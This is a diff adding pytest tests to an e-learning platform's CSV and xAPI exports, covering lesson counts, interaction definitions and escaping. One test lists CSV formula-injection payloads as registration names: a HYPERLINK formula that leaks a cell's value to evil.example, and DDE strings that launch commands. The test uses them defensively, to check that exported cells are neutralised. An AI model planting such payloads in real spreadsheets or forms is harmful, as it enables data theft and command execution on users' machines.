@@ -3,6 +3,8 @@ validator (npm xapi-validation) accepts, with stable IDs."""
 import csv
 import io
 import json
+import re
+import shutil
 import subprocess
 from pathlib import Path
 
@@ -77,3 +79,111 @@ def test_xapi_statements_are_valid_and_stable(activity, built_example, tmp_path)
     again = [json.loads(line) for line in export(activity, built_example, "xapi", "--public-url",
                                                  "https://learn.example.org").splitlines()]
     assert [s["id"] for s in again] == [s["id"] for s in statements]
+
+
+# The names of the security review's F9 (CSV / formula injection).
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+cmd|' /C calc'!A0",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_never_start_a_formula(app, visitor, learner, built_example):
+    for number, name in enumerate(FORMULA_NAMES):
+        assert visitor().register(f"f{number}@agency.org", name=name).status_code == 302
+    visitor().register("=1+1@test.local")
+    ana = learner("ana@agency.org")
+    done = {"event_id": "evt-a-0002", "course": "example", "kind": "lesson_completed",
+            "item": "finding-partners/cooperation-profiles"}
+    ana.api("post", "/api/progress", {"events": [done]})
+    for what in ("learners", "progress", "results"):
+        table = list(csv.reader(io.StringIO(export(app, built_example, "csv", what))))
+        for row in table[1:]:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (what, cell)
+    learners = {r["email"]: r for r in rows(export(app, built_example, "csv", "learners"))}
+    assert {r["name"] for r in learners.values()} >= {"'" + name.strip() for name in FORMULA_NAMES}
+    assert "'=1+1@test.local" in learners
+    assert learners["ana@agency.org"]["lessons_completed"] == "1"  # numbers stay numbers
+
+
+def test_admin_list_counts_lessons_per_course_as_the_csv_does(app, learner, built_example, tmp_path):
+    """Two courses sharing 'module/lesson' IDs (every scaffolded course has introduction/welcome)."""
+    from brokerlearn.server import db
+    from brokerlearn.server.courses import CourseCatalog
+    from brokerlearn.server.services.accounts import find_user, set_role
+    server_dir = tmp_path / "server"
+    shutil.copytree(built_example / "server", server_dir)
+    twin = json.loads((server_dir / "example.json").read_text())
+    twin["id"] = "example-twin"
+    (server_dir / "example-twin.json").write_text(json.dumps(twin))
+    app.extensions["brokerlearn_courses"] = CourseCatalog(server_dir)
+    ana = learner("ana@agency.org")
+    lesson = "finding-partners/cooperation-profiles"
+    response = ana.api("post", "/api/progress", {"events": [
+        {"event_id": f"evt-{course}-01", "course": course, "kind": "lesson_completed", "item": lesson}
+        for course in ("example", "example-twin")]})
+    assert response.get_json()["recorded"] == 2
+    boss = learner("boss@agency.org")
+    with app.app_context():
+        set_role(db.session(), find_user(db.session(), "boss@agency.org"), "admin")
+    boss.login("boss@agency.org")
+    html = boss.client.get("/admin/?q=ana").get_data(as_text=True)
+    text = lambda cells: [re.sub(r"<[^>]+>", "", c).strip() for c in cells]  # noqa: E731
+    header = text(re.findall(r"<th[^>]*>(.*?)</th>", html, re.S))
+    row = re.search(r"<tr>((?:(?!</tr>).)*ana@agency\.org.*?)</tr>", html, re.S).group(1)
+    shown = dict(zip(header, text(re.findall(r"<td[^>]*>(.*?)</td>", row, re.S))))
+    learners = {r["email"]: r for r in rows(export(app, built_example, "csv", "learners"))}
+    assert learners["ana@agency.org"]["lessons_completed"] == "2"
+    assert shown["Lessons completed"] == "2"
+
+
+def test_answered_statements_define_their_interaction(app, learner, built_example, tmp_path):
+    """xAPI 1.0.3 Data 2.4.4.1: a cmi.interaction activity has an interactionType; names are the
+    prompt and the quiz title, not IDs; the key goes out for practice questions only."""
+    ana = learner()
+    items = ["assess-practice/p1"] + [f"m2-assessment/q{n}" for n in range(1, 8)]
+    ana.api("post", "/api/progress", {"events": [
+        {"event_id": f"evt-ans-{n:04}", "course": "example", "kind": "practice_answered", "item": item, "value": 1}
+        for n, item in enumerate(items)]})
+    text = export(app, built_example, "xapi", "--public-url", "https://learn.example.org")
+    lines = tmp_path / "statements.jsonl"
+    lines.write_text(text)
+    output = subprocess.run(["node", str(REPO / "tests/tools/validate_xapi.cjs"), str(lines)], cwd=REPO,
+                            capture_output=True, text=True, check=True).stdout
+    assert json.loads(output) == {}
+    answered = {s["object"]["id"].rsplit("/quizzes/", 1)[1]: s for s in map(json.loads, text.splitlines())
+                if s["verb"]["display"]["en-US"] == "answered"}
+    definitions = {item: s["object"]["definition"] for item, s in answered.items()}
+    assert all(d["type"] == "http://adlnet.gov/expapi/activities/cmi.interaction" for d in definitions.values())
+    assert {item: d["interactionType"] for item, d in definitions.items()} == {
+        "assess-practice/p1": "choice", "m2-assessment/q1": "true-false", "m2-assessment/q2": "choice",
+        "m2-assessment/q3": "numeric", "m2-assessment/q4": "fill-in", "m2-assessment/q5": "sequencing",
+        "m2-assessment/q6": "matching", "m2-assessment/q7": "long-fill-in"}
+    practice = definitions["assess-practice/p1"]
+    assert practice["name"] == {"en": "Which criterion asks whether a candidate can commit people soon?"}
+    capacity = next(c["id"] for c in practice["choices"] if c["description"]["en"] == "Capacity")
+    assert practice["correctResponsesPattern"] == [capacity]
+    quiz = answered["assess-practice/p1"]["context"]["contextActivities"]
+    assert quiz["parent"][0]["definition"]["name"] == {"en": "Check your understanding"}
+    assert quiz["grouping"][0]["id"] == "https://learn.example.org/example/"
+    # A graded question's key stays on the server.
+    assert not any("correctResponsesPattern" in d for item, d in definitions.items() if item.startswith("m2-"))
+    assert [p["description"]["en"] for p in definitions["m2-assessment/q6"]["source"]][0] == "Fit"
+    assert "assess-practice/p1" not in json.dumps([d["name"] for d in definitions.values()])
+
+
+@pytest.mark.parametrize("question, pattern", [
+    ({"type": "multiple", "options": [{"id": "a", "correct": True}, {"id": "b", "correct": False},
+                                      {"id": "c", "correct": True}]}, ["a[,]c"]),
+    ({"type": "truefalse", "answer": False}, ["false"]),
+    ({"type": "numeric", "answer": 25.0, "tolerance": 0.0}, ["25"]),
+    ({"type": "numeric", "answer": 2.5, "tolerance": 0.5}, ["2[:]3"]),
+    ({"type": "text", "accept": ["capacity", "capacities"], "pattern": None}, ["capacity", "capacities"]),
+    ({"type": "text", "accept": [], "pattern": "^capacit(y|ies)$"}, None),
+    ({"type": "order", "items": [{"id": "i1"}, {"id": "i2"}, {"id": "i3"}]}, ["i1[,]i2[,]i3"]),
+    ({"type": "match", "pairs": [{"left_id": "l1", "right_id": "r1"}, {"left_id": "l2", "right_id": "r2"}]},
+     ["l1[.]r1[,]l2[.]r2"]),
+    ({"type": "reflection"}, None),
+])
+def test_correct_responses_patterns(question, pattern):
+    from brokerlearn.server.exports import _correct_responses
+    assert _correct_responses(question) == pattern
